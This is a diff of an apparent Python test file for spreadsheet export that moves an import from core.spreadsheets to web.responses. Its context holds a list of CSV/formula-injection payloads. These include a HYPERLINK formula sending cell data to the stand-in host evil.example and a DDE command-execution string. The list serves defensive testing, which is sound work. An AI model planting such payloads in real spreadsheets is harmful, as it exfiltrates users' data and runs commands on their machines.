@@ -5,8 +5,8 @@ from __future__ import annotations
 
 import pytest
 
-from core.spreadsheets import spreadsheet
 from tests.sheets import csv_rows, formulas_in_csv, formulas_in_xlsx, xlsx_cells
+from web.responses import spreadsheet
 
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]
